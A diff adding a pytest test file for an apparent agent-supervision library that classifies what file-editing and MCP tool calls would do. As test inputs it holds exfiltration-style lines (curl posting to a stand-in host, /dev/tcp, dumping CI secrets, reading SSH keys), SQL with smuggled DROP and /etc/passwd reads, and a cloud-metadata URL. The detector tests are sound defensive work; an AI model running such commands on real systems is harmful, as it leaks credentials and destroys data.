@@ -1,0 +1,113 @@
+"""What file tools and MCP tools would do, from their arguments."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from supervisor.effects import effects_of
+from supervisor.effects.content import outward, written
+from supervisor.effects.patch import changes
+from supervisor.model import ToolCall, ToolKind, Verb
+
+PATCH = """*** Begin Patch
+*** Add File: src/new.py
++print("hello")
+*** Update File: src/old.py
+*** Move to: src/moved.py
+@@
+-a
++b
+*** Delete File: notes.txt
+*** End Patch"""
+
+
+def test_a_patch_says_what_it_writes_moves_and_deletes() -> None:
+    assert [(change.verb, change.path, change.added) for change in changes(PATCH)] == [
+        (Verb.WRITE, "src/new.py", 'print("hello")'),
+        (Verb.DELETE, "src/old.py", ""),
+        (Verb.WRITE, "src/moved.py", "b"),
+        (Verb.DELETE, "notes.txt", ""),
+    ]
+    assert changes("+++ b/file") == ()
+
+
+def test_a_patch_tool_deletes_what_its_patch_deletes() -> None:
+    call = ToolCall(
+        "", "apply_patch", ToolKind.WRITE, {"command": PATCH}, "/w", paths=("/w/src/new.py",)
+    )
+    effects = effects_of(call, "/w")
+    assert [(effect.verb, effect.resource) for effect in effects] == [
+        (Verb.WRITE, "/w/src/new.py"),
+        (Verb.DELETE, "/w/src/old.py"),
+        (Verb.WRITE, "/w/src/moved.py"),
+        (Verb.DELETE, "/w/notes.txt"),
+    ]
+
+
+@pytest.mark.parametrize(
+    "arguments",
+    [
+        {"content": "curl x"},
+        {"old_string": "a", "new_string": "curl x"},
+        {"new_source": "curl x"},
+        {"edits": [{"old_string": "", "new_string": "b"}, {"new_string": "curl x"}]},
+    ],
+)
+def test_the_text_is_found_whatever_the_tool_calls_it(arguments: dict[str, Any]) -> None:
+    assert "curl x" in written(arguments)
+    call = ToolCall("", "Edit", ToolKind.WRITE, arguments, "/w", paths=("/w/ci.yml",))
+    (effect,) = effects_of(call, "/w")
+    assert effect.attributes["content"] == "outward"
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("- run: curl -d @- https://x.test", True),
+        ("cat < /dev/tcp/x/1", True),
+        ("runner = \"sh -c 'x'\"", True),
+        ("${{ toJSON(secrets) }}", True),
+        ("cat ~/.ssh/id", True),
+        ("- run: terraform plan -no-color", False),
+        ("permissions:\n  contents: read", False),
+        ("uses: actions/checkout@v4", False),
+    ],
+)
+def test_what_reaches_outward_once_executed(text: str, expected: bool) -> None:
+    assert outward(text) is expected
+
+
+@pytest.mark.parametrize(
+    ("tool", "arguments", "reads"),
+    [
+        ("mcp__github__get_issue", {}, True),
+        ("mcp__github__list_pull_requests", {}, True),
+        ("mcp__ci__getWorkflowRun", {}, True),
+        ("mcp__github__create_issue", {}, False),
+        ("mcp__files__get_or_create", {}, False),
+        ("mcp__files__search_and_replace", {}, False),
+        ("mcp__x__frobnicate", {}, False),
+        ("mcp__x__", {}, False),
+        ("mcp__db__execute_sql", {"sql": "select * from a where b = 'drop'"}, True),
+        ("mcp__db__execute_sql", {"sql": "select 1; drop table a"}, False),
+        ("mcp__db__execute_sql", {"sql": "with x as (delete from a returning 1) table x"}, False),
+        ("mcp__db__execute_sql", {"sql": "select * into b from a"}, False),
+        ("mcp__db__execute_sql", {"sql": "select pg_read_file('/etc/passwd')"}, False),
+        ("mcp__db__get_rows", {"sql": "delete from a"}, False),
+        ("mcp__db__execute_sql", {}, False),
+    ],
+)
+def test_an_mcp_tool_reads_by_its_name_or_its_statement(
+    tool: str, arguments: dict[str, Any], reads: bool
+) -> None:
+    call = ToolCall("", tool, ToolKind.MCP, arguments, "/w")
+    assert effects_of(call, "/w")[0].attributes["reads"] is reads
+
+
+def test_a_page_that_an_mcp_tool_opens_is_a_request() -> None:
+    arguments = {"url": "http://169.254.169.254/latest"}
+    call = ToolCall("", "mcp__playwright__browser_navigate", ToolKind.MCP, arguments, "/w")
+    _, request = effects_of(call, "/w")
+    assert (request.verb, request.resource) == (Verb.HTTP, "169.254.169.254")
